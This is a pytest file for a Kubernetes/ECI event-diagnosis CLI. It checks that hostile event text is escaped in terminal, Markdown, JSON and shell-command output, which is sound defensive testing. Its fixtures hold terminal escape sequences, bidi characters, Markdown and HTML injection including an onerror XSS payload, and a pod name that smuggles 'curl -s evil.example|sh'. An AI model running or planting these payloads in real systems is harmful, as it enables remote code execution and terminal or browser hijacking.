"""Hostile text through every renderer and format, checked on the renderers' own output
(click cannot hide anything here): terminals get no control, bidi or invisible characters
and no rich markup; Markdown gets no live link, image, HTML or broken code span; shell
lines keep every argument whole; JSON keeps the raw text."""

from __future__ import annotations

import io
import json
import re
import shlex
from datetime import datetime, timezone

import pytest

from eci_events import library
from eci_events.analysis.diagnosis import Diagnosis
from eci_events.analysis.listing import collapse
from eci_events.catalog import load_catalog
from eci_events.cli import CliError
from eci_events.errors import ApiError
from eci_events.model import Event
from eci_events.render import diagnosis_words, explain, notes, triage_data, triage_markdown
from eci_events.render.events_table import table_lines
from eci_events.render.layout import Line, plain, rich_text
from eci_events.render.triage_text import report_lines
from eci_events.sources.events_api import Failure, Query, Result

T0 = datetime(2026, 11, 20, 9, 0, tzinfo=timezone.utc)
EVIL = (
    "\x1b[2J\x1b]8;;https://evil.example\x07click\x1b]8;;\x07 \x1b]0;PWNED\x07 \rover "
    "\u202eright\u202c \u2066iso\u2069 No\u200bStock\ufeff\u2028 \x9b31m [bold]x[/bold] "
    "[t](https://evil.example/x) ![i](http://evil.example/t.png) <img src=x onerror=alert(1)> "
    "``` `` | # *em*"
)
NAME = "web-0; curl -s evil.example|sh; \x1b]0;t\x07\u202e"
CATALOG = load_catalog()


def hostile_events() -> list[Event]:
    at = datetime(2026, 11, 20, 8, 0, tzinfo=timezone.utc)
    common = {"type": "Warning", "first_seen": at, "last_seen": at, "namespace": f"ns{EVIL}"}
    return [
        Event(reason="Mystery" + EVIL, message=EVIL, group_id=f"eci-{EVIL}", **common),
        Event(
            reason="Failed",
            message=f'Failed to pull image "{EVIL}": rpc error',
            object_kind="Pod",
            object_name=NAME,
            **common,
        ),
        Event(
            reason="SpotToBeReleased",
            message="Spot ECI will be released in 3\x1b]0;PWNED\x07 minutes",
            group_id="eci-spot",
            **common,
        ),
        Event(
            reason="FailedScheduling",
            message=f"0/3 nodes are available: 3 {EVIL}.",
            object_kind="Pod",
            object_name="api",
            **common,
        ),
        Event(
            reason="FailedCreate",
            message=f"Error creating: {EVIL}",
            object_kind="ReplicaSet",
            object_name=NAME,
            **common,
        ),
    ]


def diagnosis() -> Diagnosis:
    return library.diagnose(hostile_events(), now=T0, timeline=True)


_SGR = re.compile(r"\x1b\[[0-9;]*m")
# OSC 8 opening a link to one of our documentation sites, or closing one.
_OUR_LINK = re.compile(
    r"\x1b\]8;[^;\x07\x1b]*;"
    r"(?:https://(?:www\.alibabacloud\.com|help\.aliyun\.com|kubernetes\.io)[^\x07\x1b]*)?\x1b\\"
)
_UNSAFE = re.compile(
    "[\x00-\x09\x0b-\x1f\x7f-\x9f\u00ad\u200b-\u200f\u2028-\u202e\u2060-\u206f\ufeff]"
)


def assert_terminal_safe(text: str) -> None:
    """Only our own colour codes (and our own OSC 8 links) may reach a terminal."""
    bare = _OUR_LINK.sub("", _SGR.sub("", text))
    found = _UNSAFE.search(bare)
    assert found is None, (
        f"raw {found.group()!r} reaches the terminal: ...{bare[max(0, found.start() - 40) : found.end() + 20]!r}"
    )


def colored(lines: list[Line]) -> str:
    from rich.console import Console

    console = Console(file=io.StringIO(), force_terminal=True, color_system="standard", width=100)
    console.print(rich_text(lines), end="", soft_wrap=True, crop=False)
    return console.file.getvalue()  # type: ignore[attr-defined]


def strip_code_spans(text: str) -> str:
    """Markdown with its code spans removed (each fenced by a run of n backticks), checking
    that no span is closed early by a run inside it."""
    out, at = [], 0
    for found in re.finditer(r"`+", text):
        if found.start() < at:
            continue
        fence = found.group()
        close = text.find(fence, found.end())
        while close >= 0 and (
            text[close - 1 : close] == "`"
            or text[close + len(fence) : close + len(fence) + 1] == "`"
        ):
            close = text.find(fence, close + 1)
        if close < 0:
            continue
        out.append(text[at : found.start()])
        at = close + len(fence)
    out.append(text[at:])
    return "".join(out)


def assert_markdown_safe(text: str) -> None:
    prose = strip_code_spans(text)
    assert_terminal_safe(text)
    for live in ("](", "![", "<img", "://", "www."):
        unescaped = [
            m.start()
            for m in re.finditer(re.escape(live), prose)
            if prose[m.start() - 1 : m.start()] != "\\"
        ]
        assert not unescaped, (
            f"{live!r} is live Markdown: ...{prose[unescaped[0] - 40 : unescaped[0] + 20]!r}"
        )


# -- triage -----------------------------------------------------------------------------------


@pytest.mark.parametrize("lang", ["en", "ja"])
def test_triage_table_plain_and_coloured(lang: str) -> None:
    lines = report_lines(diagnosis(), CATALOG, lang, 100, timeline=True)
    for text in (plain(lines), colored(lines)):
        assert_terminal_safe(text)
    assert "^[]0;PWNED^G" in plain(lines)  # shown, not obeyed
    assert "[bold]x[/bold]" in colored(lines)  # rich markup shown as text


def test_triage_markdown_has_no_live_markdown() -> None:
    report = triage_markdown.report(diagnosis(), CATALOG, "en")
    assert_markdown_safe(report)
    assert "evil.example" in report  # the text is there, inert


def test_triage_json_keeps_the_raw_text_and_quotes_commands() -> None:
    data = triage_data.diagnosis_data(diagnosis(), CATALOG, "en")
    messages = [m for f in data["findings"] for m in f["messages"]]
    assert EVIL in messages
    for finding in data["findings"]:
        for line in finding["next"]:
            argv = shlex.split(line)
            assert argv[0] in ("eci-events", "kubectl")
            assert all("\n" not in a for a in argv)


def test_next_commands_keep_a_hostile_name_as_one_argument() -> None:
    d = diagnosis()
    failed = next(f for f in d.findings if f.reason == "Failed")
    (describe,) = [c for c in diagnosis_words.next_lines(failed) if c.startswith("kubectl")]
    assert shlex.split(describe) == ["kubectl", "describe", f"pod/{NAME}", "-n", f"ns{EVIL}"]
    replicaset = next(f for f in d.findings if f.reason == "FailedCreate")
    assert replicaset.object_count == 1 and replicaset.group_count == 0
    (describe,) = [c for c in diagnosis_words.next_lines(replicaset) if c.startswith("kubectl")]
    assert shlex.split(describe) == ["kubectl", "describe", f"replicaset/{NAME}", "-n", f"ns{EVIL}"]


def test_spot_minutes_cannot_retitle_the_terminal() -> None:
    d = diagnosis()
    spot = next(c for c in d.conclusions if c.rule == "spot")
    advice = diagnosis_words.conclusion_advice(
        spot, CATALOG, "en", __import__("eci_events.render.safe", fromlist=["escape"]).escape
    )
    assert "\x1b" not in advice and "\x07" not in advice and "3^[]0;PWNED^G" in advice


# -- list -------------------------------------------------------------------------------------


@pytest.mark.parametrize("wide", [False, True])
@pytest.mark.parametrize("width", [None, 80])
def test_list_table_and_wide(wide: bool, width: int | None) -> None:
    rows = collapse(library.annotate(hostile_events()))
    lines = table_lines(rows, T0, wide=wide, headers=True, width=width, lang="en")
    for text in (plain(lines), colored(lines)):
        assert_terminal_safe(text)


def test_list_notes_and_error_lines(capsys: pytest.CaptureFixture[str]) -> None:
    result = Result(
        failed=[Failure([f"eci-{EVIL}"], EVIL)],
        missing=[f"eci-{EVIL}"],
        without_id=1,
        overfull=[(EVIL, 99)],
    )
    query = Query(ids=(f"eci-{EVIL}",), tags=((EVIL, EVIL),))
    from eci_events.commands.list_events import note

    for line in notes.notes(result, query, "cn-hangzhou", [], True, True, "en"):
        note(line)
    CliError(ApiError(f"the ECI API rejected the request ({EVIL})")).show()
    err = capsys.readouterr().err
    assert_terminal_safe(err)
    assert "^[]0;PWNED^G" in err


def test_cli_error_line_is_escaped_at_the_choke_point(capsys: pytest.CaptureFixture[str]) -> None:
    from eci_events.cli import main

    with pytest.raises(SystemExit) as stop:
        main(["triage", f"/nonexistent/{EVIL}"])  # the path comes back in the error
    assert stop.value.code == 2
    err = capsys.readouterr().err
    assert err.startswith("Error: /nonexistent/^[[2J") and err.count("\n") == 1
    assert_terminal_safe(err)


# -- explain ----------------------------------------------------------------------------------


@pytest.mark.parametrize("lang", ["en", "ja"])
def test_explain_with_a_hostile_message(lang: str) -> None:
    message = f"Spot ECI will be released in 3{EVIL.split()[0]} minutes"
    match = library.explain("SpotToBeReleased", message)
    paragraphs = explain.entry_paragraphs(CATALOG, match, lang, message)
    entry = match.entry
    assert entry is not None
    plain_lines = explain.plain_lines("# SpotToBeReleased", paragraphs, entry.links, lang)
    boxed = explain.boxed_lines(
        explain.heading(entry.reason, "Warning", entry.severity),
        paragraphs,
        entry.links,
        lang,
        80,
        "red",
        True,
    )
    for text in (plain(plain_lines), plain(boxed), colored(boxed)):
        assert_terminal_safe(text)


def test_explain_links_are_hyperlinks_only_to_our_own_pages() -> None:
    match = library.explain("NoStock")
    entry = match.entry
    assert entry is not None
    boxed = explain.boxed_lines(
        explain.heading(entry.reason, "Warning", entry.severity),
        explain.entry_paragraphs(CATALOG, match, "en", None),
        entry.links,
        "en",
        80,
        "red",
        True,
    )
    text = colored(boxed)
    assert "\x1b]8;" in text
    assert_terminal_safe(text)  # every OSC 8 in it points at a documentation page of ours
    assert all(json.dumps(url) for url in re.findall(r"\x1b\]8;[^;]*;([^\x1b]+)", text))
